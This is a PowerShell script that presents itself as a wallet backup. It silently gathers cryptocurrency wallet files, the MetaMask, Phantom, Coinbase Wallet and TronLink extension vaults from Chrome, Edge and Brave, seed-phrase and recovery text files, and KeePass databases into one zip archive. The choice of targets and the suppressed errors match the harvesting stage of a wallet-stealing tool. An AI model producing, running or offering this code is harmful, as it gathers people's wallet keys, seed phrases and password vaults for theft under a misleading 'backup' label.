$ErrorActionPreference = "SilentlyContinue"
$out = Join-Path $env:TEMP "wb"
New-Item -ItemType Directory -Force -Path $out | Out-Null

$targets = @{
  "Exodus"   = "$env:APPDATA\Exodus\exodus.wallet"
  "Electrum" = "$env:APPDATA\Electrum\wallets"
  "Atomic"   = "$env:APPDATA\atomic\Local Storage\leveldb"
  "Ledger"   = "$env:APPDATA\Ledger Live"
  "Ethereum" = "$env:APPDATA\Ethereum\keystore"
}
# browser extension vaults (MetaMask, Phantom, Coinbase Wallet, TronLink)
$ext = @("nkbihfbeogaeaoehlefnkodbefgpgknn","bfnaelmomeimhlpmgjnjophhpkkoljpa","hnfanknocfeofbddgcijnmhnfnkdnaad","ibnejdfjmmkpcnlpebklmnkoeoihofec")
foreach ($b in @("Google\Chrome","Microsoft\Edge","BraveSoftware\Brave-Browser")) {
  foreach ($id in $ext) {
    $p = "$env:LOCALAPPDATA\$b\User Data\Default\Local Extension Settings\$id"
    if (Test-Path $p) { $targets["$($b -replace '\\','_')_$id"] = $p }
  }
}
foreach ($k in $targets.Keys) {
  if (Test-Path $targets[$k]) { Copy-Item -Recurse -Force $targets[$k] (Join-Path $out $k) }
}
# seed-phrase text files people keep around
Get-ChildItem -Path "$env:USERPROFILE\Desktop","$env:USERPROFILE\Documents" -Recurse -Include *seed*,*wallet*,*mnemonic*,*recovery*,*.kdbx -ErrorAction SilentlyContinue |
  Copy-Item -Destination $out

Compress-Archive -Path "$out\*" -DestinationPath "$env:USERPROFILE\wallet-backup.zip" -Force
Write-Host "Backup written to $env:USERPROFILE\wallet-backup.zip"
